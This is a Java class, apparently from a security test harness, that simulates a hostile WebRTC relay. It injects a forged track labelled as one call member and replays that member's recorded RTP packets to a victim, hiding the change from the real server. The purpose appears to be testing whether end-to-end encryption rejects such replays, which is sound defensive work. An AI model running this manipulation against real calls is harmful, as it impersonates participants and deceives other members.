package dev.veil.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Replay into a new track (issue 8, item 4): the hostile server re-offers one member (the victim) a new m-line
 * labelled as another member (the sender) — a copy of the sender's m-line of that kind, with a new mid, SSRC and
 * track id but the sender's stream id, so the victim's SDK takes it for one more track of the sender — and then
 * sends on it, after each live packet, the next one of the sender's packets it recorded from the start (so the
 * replay lags the live stream by everything recorded before the attack began), with the new SSRC and fresh sequence
 * numbers (the hop's SRTP accepts them: only the E2EE layer stands in the way).
 *
 * <p>The real server knows nothing of the extra m-line: the victim's answer to the hostile re-offer is kept from it,
 * and later offers of the real server carry the extra m-line at its place while their answers reach the server
 * without it. (Start it once the membership is final: an m-line the real server adds later would need the extra
 * m-line's index.)
 *
 * <p>Install with {@link #start()}: it becomes the relay's script and the media's injector.
 */
public final class NewTrackReplay implements HostileRelay.Script, HostileMedia.Injector {
  private static final SecureRandom RANDOM = new SecureRandom();
  private static final String MID_URI = "urn:ietf:params:rtp-hdrext:sdes:mid";

  private final HostileRelay relay;
  private final HostileMedia media;
  private final HostileRelay.Link victim;
  private final String senderId;
  private final String kind;
  /** The sender's m-line of that kind at the victim, and the copy. */
  private String originalMid;
  private long originalSsrc;
  private final String mid;
  private final long ssrc = (RANDOM.nextInt() & 0xffffffffL) | 1;
  private int midExtensionId;
  private String section;
  /** Where the extra m-line sits among the victim's m-lines. */
  private int index;
  private volatile boolean answered;
  private List<byte[]> recorded;
  private int next;
  private int seq = RANDOM.nextInt(0x10000);
  private volatile int injected;

  /**
   * @param victim the member re-offered the extra m-line
   * @param senderId the member it is labelled as (whose recorded packets are replayed on it)
   * @param kind "audio" or "video"
   */
  public NewTrackReplay(HostileRelay relay, HostileMedia media, HostileRelay.Link victim, String senderId,
      String kind) {
    this.relay = relay;
    this.media = media;
    this.victim = victim;
    this.senderId = senderId;
    this.kind = kind;
    String sdp = victim.serverSdp;
    if (sdp == null) {
      throw new IllegalStateException("no offer reached the victim yet");
    }
    section = SdpText.sendingSection(sdp, senderId, kind);
    if (section != null) {
      originalMid = SdpText.attribute(section, "mid");
      originalSsrc = Long.parseLong(SdpText.attribute(section, "ssrc").split(" ")[0]);
      Matcher ext = Pattern.compile("\r\na=extmap:(\\d+) " + Pattern.quote(MID_URI) + "\r\n").matcher(section);
      midExtensionId = ext.find() ? Integer.parseInt(ext.group(1)) : 0;
    }
    if (section == null) {
      throw new IllegalArgumentException("the victim has no " + kind + " m-line of " + senderId);
    }
    // a mid of the same length (the MID header extension keeps its size), never numeric like the server's
    this.mid = "r".repeat(originalMid.length());
    String trackId = SdpText.attribute(section, "msid").split(" ")[1];
    section = withoutRtxStream(section, originalSsrc)
        .replace("\r\na=mid:" + originalMid + "\r\n", "\r\na=mid:" + mid + "\r\n")
        .replace("a=ssrc:" + originalSsrc + " ", "a=ssrc:" + ssrc + " ")
        .replace(senderId + " " + trackId, senderId + " " + trackId + "-replayed");
    this.index = SdpText.sections(sdp).size() - 1;
  }

  /**
   * The copied m-line without the real one's RTX stream (its {@code a=ssrc-group:FID} and the RTX SSRC's lines): an
   * SSRC may appear in one m-line only, and the replay needs no retransmission.
   */
  private static String withoutRtxStream(String section, long mediaSsrc) {
    StringBuilder out = new StringBuilder(section.length());
    for (String line : section.split("\r\n", -1)) {
      if (line.startsWith("a=ssrc-group:")
          || (line.startsWith("a=ssrc:") && !line.startsWith("a=ssrc:" + mediaSsrc + " "))) {
        continue;
      }
      out.append(line).append("\r\n");
    }
    out.setLength(out.length() - 2); // the split's last element had no line break after it
    return out.toString();
  }

  /** The SSRC of the sender's real m-line at the victim. */
  public long originalSsrc() {
    return originalSsrc;
  }

  /** The SSRC of the extra m-line. */
  public long ssrc() {
    return ssrc;
  }

  /** Packets replayed on the extra m-line so far. */
  public int injected() {
    return injected;
  }

  /** Sends the hostile re-offer and takes over the relay's script and the media's injector. */
  public NewTrackReplay start() {
    recorded = new ArrayList<>();
    for (byte[] p : media.recordedPackets(senderId, victim.connectionId)) {
      if (ssrcOf(p) == originalSsrc) {
        recorded.add(p);
      }
    }
    if (recorded.isEmpty()) {
      throw new IllegalStateException("nothing of " + senderId + "'s " + kind + " was recorded");
    }
    relay.script(this);
    media.inject(this);
    ObjectNode reOffer = HostileRelay.JSON.createObjectNode();
    reOffer.put("type", "re-offer");
    reOffer.put("sdp", withSection(victim.serverSdp));
    victim.toClient(reOffer);
    return this;
  }

  // ------------------------------------------------------------------------------------------------- signaling

  @Override
  public List<JsonNode> fromServer(HostileRelay.Link link, ObjectNode msg) {
    String type = msg.path("type").asText();
    if (link == victim && (type.equals("offer") || type.equals("re-offer")) && msg.path("sdp").isTextual()) {
      msg.put("sdp", withSection(msg.path("sdp").asText()));
    }
    return List.of(msg);
  }

  @Override
  public List<JsonNode> fromClient(HostileRelay.Link link, ObjectNode msg) {
    String type = msg.path("type").asText();
    if (link != victim || !(type.equals("answer") || type.equals("re-answer")) || !msg.path("sdp").isTextual()) {
      return List.of(msg);
    }
    if (!answered) {
      // the answer to the hostile re-offer: the real server never made that offer
      answered = true;
      return List.of();
    }
    msg.put("sdp", withoutSection(msg.path("sdp").asText()));
    return List.of(msg);
  }

  /** {@code sdp} with the extra m-line at its place and its mid in the BUNDLE group. */
  private String withSection(String sdp) {
    List<String> s = SdpText.sections(sdp);
    s.add(Math.min(index + 1, s.size()), section);
    s.set(0, s.get(0).replaceFirst("(\r\na=group:BUNDLE[^\r]*)", "$1 " + mid));
    return String.join("", s);
  }

  /** {@code sdp} without the extra m-line and its mid. */
  private String withoutSection(String sdp) {
    List<String> s = SdpText.sections(sdp);
    s.removeIf(x -> x.startsWith("m=") && x.contains("\r\na=mid:" + mid + "\r\n"));
    Matcher g = Pattern.compile("\r\na=group:BUNDLE([^\r]*)").matcher(s.get(0));
    if (g.find()) {
      List<String> mids = new ArrayList<>(List.of(g.group(1).trim().split(" +")));
      mids.remove(mid);
      s.set(0, s.get(0).substring(0, g.start()) + "\r\na=group:BUNDLE " + String.join(" ", mids)
          + s.get(0).substring(g.end()));
    }
    return String.join("", s);
  }

  // ------------------------------------------------------------------------------------------------------ media

  /** After each live packet of the sender's m-line to the victim, one recorded packet on the extra m-line. */
  @Override
  public List<byte[]> inject(String from, String to, byte[] rtp) {
    if (!from.equals(senderId) || !to.equals(victim.connectionId) || ssrcOf(rtp) != originalSsrc) {
      return List.of();
    }
    if (recorded.size() < HostileMedia.MAX_RECORDED) {
      recorded.add(rtp.clone()); // the recording goes on: what is replayed is always at least what it began with
    }
    if (!answered) {
      return List.of();
    }
    if (next >= recorded.size()) {
      return List.of();
    }
    byte[] p = recorded.get(next++).clone();
    seq = (seq + 1) & 0xffff;
    p[2] = (byte) (seq >>> 8);
    p[3] = (byte) seq;
    for (int i = 0; i < 4; i++) {
      p[8 + i] = (byte) (ssrc >>> (24 - 8 * i));
    }
    rewriteMid(p);
    injected++;
    return List.of(p);
  }

  private static long ssrcOf(byte[] rtp) {
    return ((rtp[8] & 0xffL) << 24) | ((rtp[9] & 0xffL) << 16) | ((rtp[10] & 0xffL) << 8) | (rtp[11] & 0xffL);
  }

  /** Writes the extra m-line's mid into the one-byte MID header extension element, if the packet has one. */
  private void rewriteMid(byte[] p) {
    if ((p[0] & 0x10) == 0 || midExtensionId == 0) {
      return;
    }
    int off = 12 + 4 * (p[0] & 0x0f);
    if (((p[off] & 0xff) << 8 | (p[off + 1] & 0xff)) != 0xBEDE) {
      return;
    }
    int end = off + 4 + 4 * (((p[off + 2] & 0xff) << 8) | (p[off + 3] & 0xff));
    for (int i = off + 4; i < end; ) {
      int id = (p[i] & 0xff) >>> 4;
      int len = (p[i] & 0x0f) + 1;
      if (id == 0) {
        i++;
        continue;
      }
      if (id == 15) {
        return;
      }
      if (id == midExtensionId && len == mid.length()) {
        for (int k = 0; k < len; k++) {
          p[i + 1 + k] = (byte) mid.charAt(k);
        }
      }
      i += 1 + len;
    }
  }
}
